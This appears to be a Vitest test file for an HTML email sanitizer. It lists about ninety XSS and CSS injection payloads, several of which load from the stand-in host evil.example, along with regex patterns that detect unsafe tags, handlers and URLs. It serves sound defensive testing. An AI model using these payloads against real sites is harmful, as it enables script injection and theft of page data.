import { describe, expect, test } from 'vitest';
import { MarkupError } from './error.ts';
import { sanitizeMarkup } from './index.ts';

/** Attacks on sanitizers, by kind. They come from advisories of HTML sanitizers and from the OWASP cheat sheets. */
const attacks = {
  'mutation XSS': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<textarea>&lt;/textarea&gt;&lt;svg/onload=alert(1)&gt;</textarea>',
    '<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>',
    '<select><option><style></option></select><img src=x onerror=alert(1)></style></option></select>',
    '<iframe><!--</iframe><img src=x onerror=alert(1)>--></iframe>',
    '<a title="`onmouseover=alert(1)">x</a>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--!><img src=x onerror=alert(1)>-->',
    '<table><td><select><table></table><img src=x onerror=alert(1)></select></td></table>',
  ],
  'scripts and handlers': [
    '<script src=//evil.example></script>',
    '<ScRiPt >alert(1)</sCrIpT\t>',
    '<script\u0000>alert(1)</script>',
    '<img src=x onerror=alert(1)//',
    '<img """><script>alert(1)</script>">',
    '<img src=x:alert(alt) onerror=eval(src) alt=1>',
    '<body onload=alert(1)>x</body>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<p/onclick=alert(1)/title=x>y</p>',
    '<p \u000conclick=alert(1)>y</p>',
    '<p\u00a0onclick=alert(1)>y</p>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href=//evil.example><base href=//evil.example/>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>',
    '<template><script>alert(1)</script></template>',
    '<portal src=javascript:alert(1)></portal>',
  ],
  SVG: [
    '<svg onload=alert(1)>x</svg>',
    '<svg><script>alert&#40;1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
    '<svg><foreignObject><body onload=alert(1)></body></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    '<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E">',
    '<image src=x onerror=alert(1)>',
  ],
  'URLs, with entities and Unicode': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#0106&#097vascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61;vascript&#x3A;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&NewLine;script&Tab;:alert(1)">x</a>',
    '<a href="\u0001\u0002javascript:alert(1)">x</a>',
    '<a href="java\u0000script:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="\u3000javascript:alert(1)">x</a>',
    '<a href="\ufeffjavascript:alert(1)">x</a>',
    '<a href="javascript\uff1aalert(1)" onclick=x>x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:x">x</a>',
    '<a href="mocha:x">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:https://a.example/x">x</a>',
    '<a href="filesystem:https://a.example/x">x</a>',
    '<a href="view-source:x">x</a>',
    '<img src="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<img src="data:text/html,x"><img src="data:image/png,<script>alert(1)</script>">',
    '<img srcset="javascript:alert(1) 1x" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
  ],
  CSS: [
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background-image:url(data:text/html,x)">x</p>',
    '<p style="background-image:\\75rl(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="width:exp/**/ression(alert(1))">x</p>',
    '<p style="width:e\\78pression(alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="background: URL  (https://evil.example)">x</p>',
    '<p style="background:red -webkit-cross-image-fade (https://evil.example)">x</p>',
    '<p style="color:rgb(1, 2, 3) my-url(//evil.example/x)">x</p>',
    '<p style="width:calc(1px + attr(x))">x</p>',
    '<p style="-moz-binding:url(//evil.example/x#y)">x</p>',
    '<p style="list-style-image:url(javascript:alert(1))">x</p>',
    '<p style="content:url(javascript:alert(1))">x</p>',
    '<p style="background:image-set(\'javascript:alert(1)\' 1x)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">covers everything</p>',
    '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
    '<style>@import "//evil.example/x.css";</style>',
    "<style>@import url('javascript:alert(1)');</style>",
    '<style>p{background:url("javascript:alert(1)")}</style>',
    '<style>p{behavior:url(x.htc)}</style>',
    '<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>',
    '<style>@media screen{@import "//evil.example";p{position:fixed}}</style>',
    '<style>p{color:red}<!--</style><script>alert(1)</script>--></style>',
    '<style>a[href="<"]{}@x;/style><script>alert(1)</script></style>',
    '<style>p{color:red}<\\/style><img src=x onerror=alert(1)></style>',
    '<style>input[value^=a]{background-image:url(//evil.example/a)}</style>',
    '<link rel=stylesheet href="javascript:alert(1)">',
  ],
} as const;

/** What no result may contain. A result quotes every value, and escapes quotes inside values. */
const harmful = {
  inTags: [
    /<(?!\/?(?:a|abbr|b|blockquote|br|div|font|img|li|p|span|style|table|tbody|td|tr|ul)\b)/i,
    /<[^>]*\s(?:on\w+|srcdoc|action|formaction|srcset|lowsrc|dynsrc|xlink:href|http-equiv)\s*=/i,
  ],
  inValues: [
    /(?:href|src|background|cite)="[^"]*(?:script|data:text|data:image\/svg|data:image\/png,|vbs|mocha|blob|filesystem|view-source)/i,
    /expression\s*\(|behavior|-moz-binding|@import|@font-face|image-set|position|url\((?!["']?https?:)/i,
    /(?:image-fade|my-url|attr)\s*\(|url\s+\(/i,
  ],
};

describe.each(Object.entries(attacks))('control 75: %s leaves nothing that runs, loads or covers', (_kind, list) => {
  test.each(list)('%s', attack => {
    const result = trySanitize(attack);
    for (const pattern of harmful.inTags) expect(result.replace(/"[^"]*"/g, '""')).not.toMatch(pattern);
    for (const pattern of harmful.inValues) expect(result).not.toMatch(pattern);
    // The result is stable: a second parser does not read another document from it.
    expect(sanitizeMarkup(result)).toBe(result);
  });
});

/** Broken markup is refused, which is as good as removed. */
function trySanitize(markup: string): string {
  try {
    return sanitizeMarkup(markup);
  } catch (error) {
    if (error instanceof MarkupError) return '';
    throw error;
  }
}

describe('styles of emails stay', () => {
  test.each([
    '<p style="color:#123456;margin:0 auto;font-family:Arial, sans-serif;background-color:rgb(1, 2, 3)">x</p>',
    '<td style="mso-line-height-rule:exactly;-webkit-text-size-adjust:100%;padding-left:4px">x</td>',
    '<div style="background-image:url(https://cdn.example/a.png)">x</div>',
    '<style>@media (prefers-color-scheme: dark) { .x { color: #ffffff !important } }</style><p class="x">y</p>',
  ])('%s', markup => {
    const inTable = markup.startsWith('<td') ? `<table><tr>${markup}</tr></table>` : markup;
    expect(sanitizeMarkup(inTable)).toBe(inTable);
  });
});
